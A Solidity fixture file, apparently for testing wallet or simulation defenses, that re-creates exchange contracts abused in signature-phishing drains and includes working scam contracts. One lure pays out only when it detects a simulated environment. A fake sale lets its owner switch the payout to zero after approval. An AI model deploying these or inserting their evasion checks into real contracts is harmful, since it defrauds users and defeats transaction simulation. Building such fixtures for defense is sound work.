// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";
import {IERC1155} from "@openzeppelin/contracts/token/ERC1155/IERC1155.sol";

/// The parts of exchanges that thieves use, for what no npm package carries. Test use only.

/// OpenSea's TransferHelper: many items of many kinds to one recipient, through the conduit the user approved.
contract TransferHelper {
    struct TransferHelperItem {
        uint8 itemType;
        address token;
        uint256 identifier;
        uint256 amount;
    }

    struct TransferHelperItemsWithRecipient {
        TransferHelperItem[] items;
        address recipient;
        bool validateERC721Receiver;
    }

    function bulkTransfer(TransferHelperItemsWithRecipient[] calldata lots, bytes32) external returns (bytes4) {
        for (uint256 i = 0; i < lots.length; i++) {
            for (uint256 k = 0; k < lots[i].items.length; k++) {
                TransferHelperItem calldata item = lots[i].items[k];
                if (item.itemType == 1) IERC20(item.token).transferFrom(msg.sender, lots[i].recipient, item.amount);
                if (item.itemType == 2) IERC721(item.token).transferFrom(msg.sender, lots[i].recipient, item.identifier);
                if (item.itemType == 3) {
                    IERC1155(item.token).safeTransferFrom(
                        msg.sender, lots[i].recipient, item.identifier, item.amount, ""
                    );
                }
            }
        }
        return this.bulkTransfer.selector;
    }
}

/// Settles any order whose EIP-712 hash its maker signed: the exchange's hash is given, so each market's own type can
/// be used with its own domain. Payment is what the order says the maker gets.
contract SignedMarket {
    mapping(bytes32 => bool) public used;

    struct Lot {
        address maker;
        address collection;
        uint256 id;
        uint256 payWei;
        address payable payee;
    }

    function fill(bytes32 digest, bytes calldata signature, Lot calldata lot, address to) external payable {
        (bytes32 r, bytes32 s, uint8 v) =
            (bytes32(signature[0:32]), bytes32(signature[32:64]), uint8(signature[64]));
        require(ecrecover(digest, v, r, s) == lot.maker && !used[digest], "order");
        used[digest] = true;
        require(msg.value == lot.payWei, "price");
        if (lot.payWei > 0) lot.payee.transfer(lot.payWei);
        IERC721(lot.collection).transferFrom(lot.maker, to, lot.id);
    }

    function takeCoin(bytes32 digest, bytes calldata signature, address maker, address token, uint256 amount, address to)
        external
    {
        (bytes32 r, bytes32 s, uint8 v) =
            (bytes32(signature[0:32]), bytes32(signature[32:64]), uint8(signature[64]));
        require(ecrecover(digest, v, r, s) == maker && !used[digest], "order");
        used[digest] = true;
        IERC20(token).transferFrom(maker, to, amount);
    }
}

/// What the first Wyvern exchange was made of: each user's own proxy, a registry that names the exchanges which may use
/// it, and an exchange that takes an order's hash as `personal_sign` signs it.
contract HashRegistry {
    mapping(address => address) public proxies;
    mapping(address => bool) public contracts;
    address private immutable _keeper = msg.sender;

    constructor(address exchange) {
        contracts[exchange] = true;
    }

    function registerProxy() external {
        proxies[msg.sender] = address(new HashProxy());
    }

    function revokeAuthentication(address exchange) external {
        require(msg.sender == _keeper);
        contracts[exchange] = false;
    }
}

contract HashProxy {
    HashRegistry private immutable _registry = HashRegistry(msg.sender);

    function proxy(address target, bytes calldata data) external {
        require(_registry.contracts(msg.sender), "exchange");
        (bool done,) = target.call(data);
        require(done, "call");
    }
}

contract HashMarket {
    HashRegistry private immutable _registry;
    mapping(bytes32 => bool) public used;

    struct Sale {
        address maker;
        address collection;
        uint256 id;
        uint256 priceWei;
        uint256 salt;
    }

    constructor(HashRegistry registry) {
        _registry = registry;
    }

    function hashOf(Sale calldata sale) public pure returns (bytes32) {
        return keccak256(abi.encode(sale));
    }

    function take(Sale calldata sale, bytes calldata signature, address to) external payable {
        bytes32 digest = keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", hashOf(sale)));
        (bytes32 r, bytes32 s, uint8 v) =
            (bytes32(signature[0:32]), bytes32(signature[32:64]), uint8(signature[64]));
        require(ecrecover(digest, v, r, s) == sale.maker && !used[digest], "order");
        used[digest] = true;
        require(msg.value == sale.priceWei, "price");
        payable(sale.maker).transfer(msg.value);
        HashProxy own = HashProxy(_registry.proxies(sale.maker));
        own.proxy(sale.collection, abi.encodeCall(IERC721.transferFrom, (sale.maker, to, sale.id)));
    }
}

/// A pool for router attacks: pays `rate` thousandths of what comes in, to whom the caller names.
contract OneRateRouter {
    uint256 public rate = 1000;
    address private immutable _keeper = msg.sender;

    function setRate(uint256 rate_) external {
        require(msg.sender == _keeper);
        rate = rate_;
    }

    function swapExactTokensForTokens(
        uint256 amountIn,
        uint256 amountOutMin,
        address[] calldata path,
        address to,
        uint256 deadline
    ) external returns (uint256[] memory amounts) {
        require(block.timestamp <= deadline, "EXPIRED");
        amounts = new uint256[](2);
        (amounts[0], amounts[1]) = (amountIn, (amountIn * rate) / 1000);
        require(amounts[1] >= amountOutMin, "INSUFFICIENT_OUTPUT_AMOUNT");
        IERC20(path[0]).transferFrom(msg.sender, address(this), amountIn);
        IERC20(path[path.length - 1]).transfer(to, amounts[1]);
    }
}

/// Behaves while it believes it is only watched; `tell` says what it reads (ZenGo, 2023). Own bait and own shapes, so
/// that what was learned on other red pills is tried on strangers.
contract WatchedLure {
    uint8 public immutable tell;
    address private immutable _owner = msg.sender;
    uint256 private immutable _madeAt = block.timestamp;
    uint256 private immutable _madeIn = block.number;
    bool public paused;
    mapping(address => bool) public listed;

    constructor(uint8 tell_) payable {
        tell = tell_;
    }

    receive() external payable {}

    /// Pays interest on the spot, unless it is for real.
    function stake() external payable {
        if (_idle()) {
            (bool sent,) = msg.sender.call{value: msg.value + msg.value / 10}("");
            require(sent, "paid");
        }
    }

    function setPaused(bool value) external {
        require(msg.sender == _owner);
        paused = value;
    }

    function withdraw() external {
        require(msg.sender == _owner);
        payable(_owner).transfer(address(this).balance);
    }

    function _idle() private view returns (bool) {
        if (tell == 0) return block.coinbase == address(0);
        if (tell == 1) return block.basefee < 1000;
        if (tell == 2) return tx.gasprice <= block.basefee && tx.gasprice < 1000;
        if (tell == 3) return gasleft() > 25_000_000;
        if (tell == 4) return block.prevrandao < type(uint64).max;
        if (tell == 5) return uint256(keccak256(abi.encode(block.prevrandao, msg.sender))) % 2 == 0;
        if (tell == 6) return uint256(blockhash(block.number - 1)) % 4 != 0;
        if (tell == 7) return block.timestamp < _madeAt + 25 minutes;
        if (tell == 8) return block.number < _madeIn + 120;
        if (tell == 9) return !paused;
        if (tell == 10) return tx.origin.balance >= 10_000 ether;
        return block.gaslimit > 1_000_000_000;
    }
}

/// The price moves to zero while the victim confirms: a "sale" whose payout its owner sets (about $460 k, Jan 2025).
contract SwitchedSale {
    address private immutable _owner = msg.sender;
    uint256 public payoutPerUnit;
    IERC20 public immutable token;

    constructor(IERC20 token_, uint256 payoutPerUnit_) payable {
        token = token_;
        payoutPerUnit = payoutPerUnit_;
    }

    receive() external payable {}

    function setPayout(uint256 value) external {
        require(msg.sender == _owner);
        payoutPerUnit = value;
    }

    function sell(uint256 amount) external {
        token.transferFrom(msg.sender, _owner, amount);
        payable(msg.sender).transfer(amount * payoutPerUnit / 1e18);
    }
}

import {ERC2771Forwarder} from "@openzeppelin/contracts/metatx/ERC2771Forwarder.sol";

contract Forwarder2771 is ERC2771Forwarder {
    constructor() ERC2771Forwarder("Relay") {}
}
